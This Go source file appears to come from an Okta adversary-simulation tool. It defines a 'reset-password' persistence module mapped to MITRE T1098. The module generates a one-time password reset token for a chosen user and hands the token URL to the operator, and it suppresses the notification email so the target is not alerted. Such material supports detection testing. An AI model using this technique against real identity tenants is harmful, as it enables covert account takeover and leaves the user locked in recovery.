package persistence

import (
	"context"
	"fmt"
	"net/url"

	"github.com/elastic/dorothy/pkg/ledger"
	"github.com/elastic/dorothy/pkg/modules"
)

var resetPasswordDescriptor = modules.Descriptor{
	ID:          modules.TechniqueID{Tactic: modules.Persistence, Name: "reset-password"},
	Description: "Generate a one-time token to reset a user's password, leaving the user in RECOVERY state",
	Scopes:      []string{"okta.users.manage"},
	Artifacts:   []ledger.Kind{ledger.KindUser},
	References:  []string{"https://attack.mitre.org/techniques/T1098/"},
	Options: []*modules.Option{
		{Name: "user-id", Description: "The unique ID of the user", Required: true, Type: modules.String},
	},
}

type ResetPassword struct {
	modules.BaseModule
}

func NewResetPassword() modules.Module {
	return &ResetPassword{modules.NewBase(resetPasswordDescriptor)}
}

type ResetPasswordOutput struct {
	UserID string `json:"user_id"`

	// ResetPasswordURL contains the one-time token; whoever holds it can
	// set the user's password.
	ResetPasswordURL string `json:"resetPasswordUrl"`
}

func (m *ResetPassword) Execute(ctx context.Context, exec *modules.Exec) (any, error) {
	userID := exec.Params.String("user-id")
	path := "/users/" + userID + "/lifecycle/reset_password"

	if exec.DryRun {
		return modules.Planned{
			Description: fmt.Sprintf("Would generate a one-time password reset token for user %s", userID),
			Calls:       []string{"POST /api/v1" + path + "?sendEmail=false"},
			WouldMutate: true,
		}, nil
	}

	// sendEmail defaults to true, which would tip off the target user.
	query := url.Values{"sendEmail": []string{"false"}}

	var out ResetPasswordOutput
	if err := exec.Client.Post(ctx, path, query, nil, &out); err != nil {
		return nil, err
	}
	out.UserID = userID

	// The user is stuck in RECOVERY until a new password is set; there is
	// no API call that restores the previous credential state.
	if _, err := exec.Artifacts.Created(ledger.KindUser, userID, nil); err != nil {
		return out, err
	}

	exec.Log.Info("generated password reset token", "user", userID)
	return out, nil
}
